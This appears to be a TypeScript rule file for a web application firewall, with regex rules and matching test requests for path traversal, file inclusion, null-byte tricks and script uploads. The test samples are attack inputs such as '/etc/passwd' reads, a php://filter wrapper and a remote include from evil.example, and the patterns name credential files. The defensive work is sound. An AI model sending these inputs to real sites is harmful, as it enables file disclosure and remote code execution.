/** Attempts to leave the directory of a site, or to make it load a file of the attacker's. */
import {
  anywhere,
  form,
  inAddressOrBody,
  inPathAsTold,
  inQuery,
  inQueryOrBody,
  json,
  type ManagedRule,
} from './managed-rule.ts'

export const files: readonly ManagedRule[] = [
  {
    ref: 'traversal-parent-directory',
    says: 'Steps up to a parent directory',
    tags: ['path-traversal'],
    does: 'block',
    expression: `${inPathAsTold(String.raw`(^|[\\/;])\.\.([\\/;]|$)`)} or ${inQuery(String.raw`(^|[=&\\/])\.\.[\\/]`)} or http.request.body.raw matches r#"..[\\/]..[\\/]"#`,
    matches: ['/static/%2e%2e/%2e%2e/secret', '/view?file=../../app.conf', json('{"f":"../../x"}')],
    passes: ['/compare/v1...v2', '/view?text=wait..'],
  },
  {
    ref: 'traversal-system-file',
    says: 'The path of a file of the operating system',
    tags: ['path-traversal', 'lfi'],
    does: 'block',
    expression: anywhere(
      String.raw`/etc/(passwd|shadow|group|hosts|sudoers)\b|/proc/self/(environ|cmdline|maps|fd)|\b(boot|win)\.ini\b|/windows/system32/`,
    ),
    matches: ['/view?file=/etc/passwd', form('path=c:/boot.ini')],
    passes: ['/docs/etc/overview', form('text=the+hosts+of+win+and+boot')],
  },
  {
    ref: 'traversal-null-byte',
    says: 'A null byte that would cut a file name short',
    tags: ['path-traversal'],
    does: 'block',
    expression: inAddressOrBody(String.raw`\x00`),
    matches: ['/view?file=secret.txt%00.png', form('name=a%2500')],
    passes: ['/price?discount=100%25', form('rate=5%250')],
  },
  {
    ref: 'lfi-stream-wrapper',
    says: 'A wrapper through which a script engine reads or runs files',
    tags: ['lfi', 'php'],
    does: 'block',
    expression: inQueryOrBody(
      String.raw`\b(php://(filter|input|fd|memory)|phar://|expect://|zip://|glob://|data://text)`,
    ),
    matches: ['/?page=php://filter/convert.base64-encode/resource=index', form('f=phar://up/x.jpg')],
    passes: ['/?page=php', form('f=https://example.com/a.zip')],
  },
  {
    ref: 'rfi-remote-script',
    says: 'A parameter that names a script on a foreign host',
    tags: ['rfi', 'php'],
    does: 'block',
    expression: inQueryOrBody(
      String.raw`(^|&)(file|page|include|require|template|path|document|folder|root|pg|inc|module)=(https?|ftp)://[^&\s]+\.(php|inc|txt|phtml|jsp|asp)\b`,
    ),
    matches: ['/?page=http://evil.example/shell.txt', form('include=ftp://evil.example/a.php')],
    passes: ['/?page=2', form('homepage=https://example.com/about.html')],
  },
  {
    ref: 'upload-script-name',
    says: 'An upload whose file name would be run as a script',
    tags: ['upload', 'rce'],
    does: 'block',
    expression: inQueryOrBody(
      String.raw`filename\*?\s*=\s*"?[^"\r\n;]*\.(php[3-8]?|phtml|phar|jspx?|aspx?|ashx|cgi)("|\s|;|\.)`,
    ),
    matches: [
      { url: '/up', method: 'POST', body: 'Content-Disposition: form-data; name="f"; filename="x.php"\r\n' },
      { url: '/up', method: 'POST', body: 'form-data; filename="a.phtml.jpg"\r\n' },
    ],
    passes: [
      { url: '/up', method: 'POST', body: 'form-data; name="f"; filename="notes.txt"\r\n' },
      { url: '/up', method: 'POST', body: 'form-data; filename="php.pdf"\r\n' },
    ],
  },
]
